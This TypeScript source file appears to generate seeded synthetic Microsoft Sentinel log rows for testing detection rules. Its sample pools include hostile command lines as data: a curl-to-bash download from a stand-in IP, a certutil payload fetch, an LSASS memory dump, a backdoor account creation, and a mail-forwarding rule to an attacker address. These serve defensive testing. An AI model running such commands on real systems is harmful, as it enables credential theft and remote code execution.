/**
 * Seeded generator of plausible Sentinel rows for `npm run corpus`: fills a table
 * from its schema so that real analytics rules have something to chew on.
 *
 *   const rows = generateRows('SigninLogs', schema, { seed: 'rule-id', now, periodMs: 3_600_000 });
 *
 * Values are chosen by column type and, where cheap, by column name: datetimes in
 * [now - period, now], IPs (private and public), UPNs, GUIDs, host names, command
 * lines, JSON text in string columns whose names suggest JSON (AdditionalFields,
 * Entities, ExtendedProperties, Parameters, ...), objects in dynamic columns, and
 * realistic enums (EventID numbers, ResultType "0"/"50126", ...). Small pools make
 * values repeat, so joins, summarize and dcount have groups to work with.
 * Same seed, same rows. Each column's generator is chosen once per column
 * (not per value), so a million rows take seconds (the benchmark's rules suite).
 */
import type { ColumnSchema } from '../src/runtime/types.js';

export type Rng = () => number;

/** mulberry32 over a 32-bit FNV-1a hash of the seed text. */
export function makeRng(seed: string): Rng {
  let h = 0x811c9dc5;
  for (let i = 0; i < seed.length; i++) {
    h ^= seed.charCodeAt(i);
    h = Math.imul(h, 0x01000193);
  }
  let a = h >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const pick = <T>(rng: Rng, xs: readonly T[]): T => xs[Math.floor(rng() * xs.length)]!;
const int = (rng: Rng, lo: number, hi: number) => lo + Math.floor(rng() * (hi - lo + 1));

/**
 * A duration as a number of milliseconds: ISO 8601 (PT1H, P14D, P1DT12H) or
 * KQL-ish (1h, 14d, 30m, 90s, 2.5h). Undefined when not understood.
 */
export function parseDuration(text: string | null | undefined): number | undefined {
  if (!text) return undefined;
  const t = text.trim();
  const iso = /^P(?:(\d+(?:\.\d+)?)W)?(?:(\d+(?:\.\d+)?)D)?(?:T(?:(\d+(?:\.\d+)?)H)?(?:(\d+(?:\.\d+)?)M)?(?:(\d+(?:\.\d+)?)S)?)?$/i.exec(t);
  if (iso && t.length > 1 && !/T$/i.test(t)) {
    const [, w, d, h, m, s] = iso.map((x) => (x === undefined ? 0 : Number(x)));
    return ((((w! * 7 + d!) * 24 + h!) * 60 + m!) * 60 + s!) * 1000;
  }
  const kql = /^(\d+(?:\.\d+)?)\s*(d|h|m|s|ms|min|hr|day|days|hours?|minutes?|seconds?)$/i.exec(t);
  if (kql) {
    const n = Number(kql[1]);
    const u = kql[2]!.toLowerCase();
    const unit = u === 'ms' ? 1 : u.startsWith('s') ? 1000 : u.startsWith('m') ? 60_000 : u.startsWith('h') ? 3_600_000 : 86_400_000;
    return n * unit;
  }
  return undefined;
}

const USERS = ['alice', 'bob', 'carol', 'dave', 'eve', 'mallory', 'svc-backup', 'admin'];
const DOMAINS = ['contoso.com', 'fabrikam.onmicrosoft.com'];
const HOSTS = ['WS-0001', 'WS-0002', 'SRV-DC01', 'SRV-SQL02', 'web-01', 'ip-10-0-0-12'];
const PRIVATE_IPS = ['10.0.0.5', '10.1.2.3', '192.168.1.20', '172.16.4.9', '127.0.0.1'];
const PUBLIC_IPS = ['203.0.113.7', '198.51.100.23', '52.168.10.4', '8.8.8.8', '185.220.101.3', '20.42.65.92', '2001:db8::1'];
const PROCESSES = ['C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  'C:\\Windows\\System32\\rundll32.exe', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  'C:\\Windows\\System32\\svchost.exe', '/usr/bin/bash', '/usr/bin/curl'];
const COMMAND_LINES = ['cmd.exe /c whoami /all', 'powershell.exe -NoProfile -EncodedCommand SQBFAFgA', 'rundll32.exe comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full',
  'net user /add backdoor P@ss', 'curl -fsSL http://203.0.113.7/x.sh | bash', 'svchost.exe -k netsvcs -p', 'certutil -urlcache -split -f http://198.51.100.23/a.exe'];
const OPERATIONS = ['Add member to role', 'Update user', 'Consent to application', 'Sign-in activity', 'Create', 'Delete',
  'Microsoft.Compute/virtualMachines/write', 'Microsoft.Authorization/roleAssignments/write', 'FileAccessed', 'MailItemsAccessed', 'New-InboxRule', 'Set-Mailbox'];
const RESULT_TYPES = ['0', '0', '0', '50126', '50053', '50074', '50140', '53003', '500121'];
const EVENT_IDS = [4624, 4625, 4688, 4720, 4726, 4728, 4732, 4740, 4768, 4769, 1102, 4104, 7045, 1, 3, 11];
const COUNTRIES = ['US', 'DE', 'GB', 'FR', 'NL', 'RU', 'CN', 'BR'];
const APPS = ['Azure Portal', 'Office 365 Exchange Online', 'Microsoft Teams', 'Azure CLI', 'Graph Explorer'];
const USER_AGENTS = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36', 'python-requests/2.31.0', 'curl/8.4.0', 'aws-cli/2.13.0 Python/3.11'];
const PROTOCOLS = ['TCP', 'UDP', 'HTTPS', 'HTTP', 'DNS'];
const ACTIONS = ['Allow', 'Deny', 'Drop', 'Success', 'Failure', 'Blocked'];
const SEVERITIES = ['High', 'Medium', 'Low', 'Informational'];
const FILES = ['invoice.docm', 'payload.exe', 'report.pdf', 'run.ps1', 'lsass.dmp', 'update.dll'];
const HASH_CHARS = '0123456789abcdef';
const URLS = ['https://login.microsoftonline.com/common', 'http://203.0.113.7/x.sh', 'https://evil.example/a?b=1', 'contoso.com', 'fabrikam.onmicrosoft.com'];
const RESULT_WORDS = ['Success', 'Failure', 'success', 'failure', '0'];
const PORTS = [22, 53, 80, 443, 445, 3389, 8080];

const HEX_CODES = Array.from(HASH_CHARS, (c) => c.charCodeAt(0));
const DASH = 45;
const FOUR = 52;
const GUID_VARIANTS = ['8', '9', 'a', 'b'];
const VARIANT_CODES = GUID_VARIANTS.map((c) => c.charCodeAt(0));

/** Appends n random hex digit codes (one draw each) to codes. */
function pushHex(rng: Rng, codes: number[], n: number): void {
  for (let i = 0; i < n; i++) codes.push(HEX_CODES[Math.floor(rng() * 16)]!);
}

/** n random hex digits, built as one flat string. */
function hex(rng: Rng, n: number): string {
  const codes: number[] = [];
  pushHex(rng, codes, n);
  return String.fromCharCode(...codes);
}

export function guid(rng: Rng): string {
  const codes: number[] = [];
  pushHex(rng, codes, 8);
  codes.push(DASH);
  pushHex(rng, codes, 4);
  codes.push(DASH, FOUR);
  pushHex(rng, codes, 3);
  codes.push(DASH, VARIANT_CODES[Math.floor(rng() * GUID_VARIANTS.length)]!);
  pushHex(rng, codes, 3);
  codes.push(DASH);
  pushHex(rng, codes, 12);
  return String.fromCharCode(...codes);
}
const upn = (rng: Rng) => `${pick(rng, USERS)}@${pick(rng, DOMAINS)}`;
const ip = (rng: Rng) => (rng() < 0.4 ? pick(rng, PRIVATE_IPS) : pick(rng, PUBLIC_IPS));

/** Column names whose string values are JSON text in Sentinel (and dynamic values in dynamic columns). */
const JSONISH = /^(AdditionalFields|AdditionalData|AdditionalDetails|AdditionalInfo|Entities|ExtendedProperties|ExtendedLinks|Parameters|Properties|Properties_d|Claims|DeviceDetail|LocationDetails|Status|AuthenticationDetails|AuthenticationProcessingDetails|ConditionalAccessPolicies|MfaDetail|NetworkLocationDetails|TargetResources|InitiatedBy|ModifiedProperties|AdditionalDetails|EventData|RawEventData|Details|Authorization|Authorization_d|Claims_d|HttpRequest|Tags|Labels|Comments|Alerts|Owner|Identity|RequestMetadata|AuthenticationInfo|Request|Response|ResourceLocation|ServiceData|Resources|ResourceIds|Data|Payload|Fields|Attributes|Target|Actor|Metadata|Context|ObjectAttributes)$|_json$|Json$|JSON$|Detail$|Details$|Properties$/;

/** A plausible JSON object or array for a column, keyed by its name where cheap. */
function jsonValue(rng: Rng, name: string, now: number): unknown {
  const u = upn(rng);
  switch (name) {
    case 'Entities':
      return [
        { $id: '1', Type: 'account', Name: u.split('@')[0], UPNSuffix: u.split('@')[1], AadUserId: guid(rng) },
        { $id: '2', Type: 'ip', Address: ip(rng) },
        { $id: '3', Type: 'host', HostName: pick(rng, HOSTS), OSFamily: 'Windows' },
      ];
    case 'DeviceDetail':
      return { deviceId: guid(rng), displayName: pick(rng, HOSTS), operatingSystem: pick(rng, ['Windows 10', 'MacOs', 'Ios', 'Linux']), browser: pick(rng, ['Edge 120.0', 'Chrome 119.0', 'Rich Client']), isCompliant: rng() < 0.5, isManaged: rng() < 0.5, trustType: 'Azure AD joined' };
    case 'LocationDetails':
      return { city: pick(rng, ['Seattle', 'Berlin', 'London', 'Moscow']), state: 'X', countryOrRegion: pick(rng, COUNTRIES), geoCoordinates: { latitude: 47.6, longitude: -122.3 } };
    case 'Status':
      return rng() < 0.6 ? { errorCode: 0 } : { errorCode: 50126, failureReason: 'Invalid username or password.' };
    case 'TargetResources':
      return [{ id: guid(rng), displayName: pick(rng, ['Global Administrator', 'ContosoApp', u]), type: pick(rng, ['User', 'Role', 'ServicePrincipal']), userPrincipalName: u,
        modifiedProperties: [{ displayName: 'Role.DisplayName', oldValue: '""', newValue: '"Global Administrator"' }] }];
    case 'InitiatedBy':
      return { user: { id: guid(rng), userPrincipalName: u, ipAddress: ip(rng), displayName: u.split('@')[0] }, app: { displayName: pick(rng, APPS), servicePrincipalId: guid(rng) } };
    case 'ConditionalAccessPolicies':
      return [{ id: guid(rng), displayName: 'Require MFA', result: pick(rng, ['success', 'failure', 'notApplied']), enforcedGrantControls: ['Mfa'] }];
    case 'AuthenticationDetails':
      return [{ authenticationStepDateTime: new Date(now).toISOString(), authenticationMethod: 'Password', succeeded: rng() < 0.5, authenticationStepResultDetail: 'MFA requirement satisfied by claim in the token' }];
    case 'ExtendedProperties':
      return { 'Compromised Host': pick(rng, HOSTS), 'User Name': u, 'IP Address': ip(rng), ProcessName: pick(rng, PROCESSES), 'Alert Type': 'SuspiciousActivity' };
    case 'Parameters':
      return [{ Name: 'Identity', Value: u }, { Name: 'ForwardTo', Value: `attacker@${pick(rng, ['evil.example', 'contoso.com'])}` }, { Name: 'DeleteMessage', Value: 'True' }];
    case 'AdditionalFields':
    default:
      return { Name: pick(rng, ['x', 'y', 'z']), Value: int(rng, 0, 9), UserPrincipalName: u, IpAddress: ip(rng), ClientIP: ip(rng), UserAgent: pick(rng, USER_AGENTS),
        AppId: guid(rng), Count: int(rng, 1, 50), Target: [{ Type: 'User', ID: u }], Items: [pick(rng, FILES), pick(rng, FILES)] };
  }
}

type ValueFn = (rng: Rng, now: number) => unknown;

/**
 * The generator of a string column, chosen once by its name (the name tests
 * run per column, not per value; same draws and values as testing per value).
 */
function stringGenerator(table: string, name: string): (rng: Rng, now: number) => string {
  const n = name.toLowerCase();
  if (JSONISH.test(name)) return (rng, now) => JSON.stringify(jsonValue(rng, name, now));
  if (name === 'Type') return () => table;
  if (name === 'ResultType') return (rng) => pick(rng, RESULT_TYPES);
  if (n === 'eventid') return (rng) => String(pick(rng, EVENT_IDS));
  if (/(^|_)(ip|ipaddress|ipaddr|ipv4|ipv6)(_s)?$|ip(address|addr)?$|clientip|callerip|remoteip|localip|sourceip|destinationip|srcip|dstip|address$/i.test(name)) return ip;
  if (/upn|userprincipalname|email|mail$|recipient|sender/.test(n)) return upn;
  if (/(^|[a-z])(id|guid)(_g|_s)?$/i.test(name) && /id$|guid|_g$/i.test(name)) return guid;
  if (/sid$/.test(n)) return (rng) => `S-1-5-21-${int(rng, 1000, 9999)}-${int(rng, 1000, 9999)}-${int(rng, 500, 1200)}`;
  if (/account$|username$|user$|^user|caller$|actor|identity|subject/.test(n)) return (rng) => (rng() < 0.5 ? upn(rng) : `CONTOSO\\${pick(rng, USERS)}`);
  if (/computer|hostname|devicename|host$|machine|workstation|dvc$|dvchostname/.test(n)) return (rng) => pick(rng, HOSTS);
  if (/commandline|cmdline|command$/.test(n)) return (rng) => pick(rng, COMMAND_LINES);
  if (/process|image|filename|file$|path$|folder/.test(n)) return /filename/.test(n) ? (rng) => pick(rng, FILES) : (rng) => pick(rng, PROCESSES);
  if (/url|uri$|domain|fqdn|query$/.test(n)) return (rng) => pick(rng, URLS);
  if (/useragent/.test(n)) return (rng) => pick(rng, USER_AGENTS);
  if (/operationname|operation$|activity|action|eventname|methodname/.test(n)) {
    return /action/.test(n) ? (rng) => (rng() < 0.5 ? pick(rng, ACTIONS) : pick(rng, OPERATIONS)) : (rng) => pick(rng, OPERATIONS);
  }
  if (/country|location|region/.test(n)) return (rng) => pick(rng, COUNTRIES);
  if (/severity|level$/.test(n)) return (rng) => pick(rng, SEVERITIES);
  if (/protocol/.test(n)) return (rng) => pick(rng, PROTOCOLS);
  if (/result|status|outcome/.test(n)) return (rng) => pick(rng, RESULT_WORDS);
  if (/appdisplayname|application|appname|app$/.test(n)) return (rng) => pick(rng, APPS);
  if (/hash|sha256|sha1|md5/.test(n)) {
    const len = /md5/.test(n) ? 32 : /sha1/.test(n) ? 40 : 64;
    return (rng) => hex(rng, len);
  }
  if (/port$/.test(n)) return (rng) => String(pick(rng, PORTS));
  if (/category|kind|source|vendor|product/.test(n)) return (rng) => `${name}-${int(rng, 1, 3)}`;
  return (rng) => `${name}-${int(rng, 1, 4)}`;
}

/** The generator of one column's values (by type, then name); datetimes are Date objects in [now - periodMs, now]. */
function columnGenerator(table: string, col: ColumnSchema, periodMs: number): ValueFn {
  switch (col.type) {
    case 'datetime':
      return (rng, now) => new Date(now - Math.floor(rng() * periodMs));
    case 'string':
      return stringGenerator(table, col.name);
    case 'int':
    case 'long': {
      const n = col.name.toLowerCase();
      if (n === 'eventid') return (rng) => pick(rng, EVENT_IDS);
      if (/port$/.test(n)) return (rng) => pick(rng, [22, 53, 80, 443, 445, 3389, 8080, int(rng, 1024, 65535)]);
      if (/logontype/.test(n)) return (rng) => pick(rng, [2, 3, 10]);
      if (/count|bytes|size|duration/.test(n)) return (rng) => int(rng, 0, 5000);
      return (rng) => int(rng, 0, 20);
    }
    case 'real':
    case 'decimal':
      return (rng) => Math.round(rng() * 10000) / 100;
    case 'bool':
      return (rng) => rng() < 0.5;
    case 'guid':
      return guid;
    case 'timespan':
      return (rng) => int(rng, 0, 3_600_000);
    case 'dynamic':
      return (rng, now) => (rng() < 0.15 ? [ip(rng), upn(rng)] : jsonValue(rng, col.name, now));
    default:
      return () => null;
  }
}

/** A value for one column of one row: a few missing values, some of the query's literals, else the column's generator. */
function valueGenerator(table: string, col: ColumnSchema, periodMs: number, literals: readonly string[]): ValueFn {
  const gen = columnGenerator(table, col, periodMs);
  const isDatetime = col.type === 'datetime';
  const takesLiterals = col.type === 'string' && literals.length > 0 && col.name !== 'Type' && !JSONISH.test(col.name);
  return (rng, now) => {
    if (rng() < 0.04 && !isDatetime) return null; // a few missing values
    if (takesLiterals && rng() < 0.25) return pick(rng, literals);
    return gen(rng, now);
  };
}

export interface GenerateOptions {
  /** Seed text; same seed, same rows. */
  seed: string;
  /** Epoch milliseconds. */
  now: number;
  /** Datetimes fall in [now - periodMs, now]. */
  periodMs: number;
  /**
   * Text values to mix into string columns (about 1 value in 4), typically the
   * query's string literals, so that its filters match some rows.
   */
  literals?: readonly string[];
  /** Row count; default 20-50 chosen by the seed. */
  rows?: number;
}

/** Rows (plain objects) for a table of the given schema. */
export function generateRows(table: string, schema: readonly ColumnSchema[], options: GenerateOptions): Record<string, unknown>[] {
  const rng = makeRng(`${options.seed}/${table}`);
  const count = options.rows ?? int(rng, 20, 50);
  const gens = schema.map((col) => [col.name, valueGenerator(table, col, options.periodMs, options.literals ?? [])] as const);
  const now = options.now;
  const out: Record<string, unknown>[] = new Array(count);
  for (let i = 0; i < count; i++) {
    const row: Record<string, unknown> = {};
    for (const [name, gen] of gens) row[name] = gen(rng, now);
    out[i] = row;
  }
  return out;
}
